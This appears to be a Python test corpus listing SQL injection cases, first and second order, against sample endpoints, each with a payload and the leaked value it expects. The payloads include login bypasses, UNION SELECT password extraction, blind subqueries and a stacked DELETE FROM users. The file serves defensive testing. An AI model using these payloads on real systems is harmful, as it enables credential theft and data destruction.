"""SQL injection, of the first and of the second order."""

from tests.honest.corpus.cases import Attack, rest
from tests.honest.samples.sample import sqs

NEEDS = ("aws-http", "postgres")
ATTACKS = [
    Attack("SQL", "login", {"name": "ada' --", "password": "x"}, '"ada"'),
    Attack("SQL", "login", {"name": "x", "password": "' OR '1'='1"}, '"bob"'),
    Attack("SQL", "login", {"name": "x' OR name LIKE 'bo%", "password": "' OR 'a' < 'b"}, '"bob"'),
    Attack("SQL", "find_note", rest("GET", "/n", q="%' OR owner = 'bob' --"), "secret plan"),
    Attack(
        "SQL", "find_note", rest("GET", "/n", q="x%' UNION SELECT id, password FROM users --"), "pw-bob-1901"
    ),
    Attack("SQL", "by_number", rest("GET", "/u", ids={"id": "1 OR 1=1"}), "bob"),
    Attack(
        "SQL", "by_number", rest("GET", "/u", ids={"id": "0 UNION SELECT password FROM users"}), "pw-bob-1901"
    ),
    Attack(
        "SQL",
        "sorted_notes",
        {"sort": "(CASE WHEN (SELECT password FROM users LIMIT 1) LIKE 'pw%' THEN -id ELSE id END)"},
        "[[2], [1]]",
    ),
    Attack("SQL", "limited", {"limit": "(SELECT length(password) FROM users LIMIT 1)"}, "buy milk"),
    Attack("SQL", "columns", {"fields": "name, password"}, "pw-ada-1815"),
    Attack("SQL", "columns", {"fields": "(SELECT group_concat(password) FROM users)"}, "pw-bob-1901"),
    Attack("SQL", "in_list", {"names": ["x') OR ('a'='a"]}, "pw-bob-1901"),
    Attack("SQL", "table_name", {"table": "notes UNION SELECT id, name, password FROM users"}, "pw-bob-1901"),
    Attack("SQL", "add_note", {"body": "x'), (10, 'bob', 'forged"}, "forged"),
    Attack("SQL", "change", {"name": "eve', tenant = 'b"}, '["eve", "b"]'),
    Attack("SQL", "many", {"body": "x'); DELETE FROM users; --"}, "[[0]]"),
    Attack("SQL", "where_keys", {"filters": {"1 = 1 OR name IS NOT NULL OR name": "x"}}, "pw-bob-1901"),
    Attack("SQL", "postgres_search", {"name": "' UNION SELECT password FROM users --"}, "pw-ada-1815"),
    Attack("SQL", "alchemy_text", {"name": "' UNION SELECT password FROM users --"}, "pw-ada-1815"),
    Attack("SQL", "queue", sqs({"customer": "' UNION SELECT password FROM users --"}), "pw-bob-1901"),
    Attack(
        "SQL, second order",
        "by_kept_name",
        {"profile": "profile-7"},
        "pw-bob-1901",
        before=[("keep_name", {"name": "' UNION SELECT password FROM users --"})],
    ),
    Attack(
        "SQL, second order",
        "by_kept_filter",
        {"key": "saved/filter.json"},
        "secret plan",
        before=[("keep_row", {"filter": "x' OR owner = 'bob"})],
    ),
]
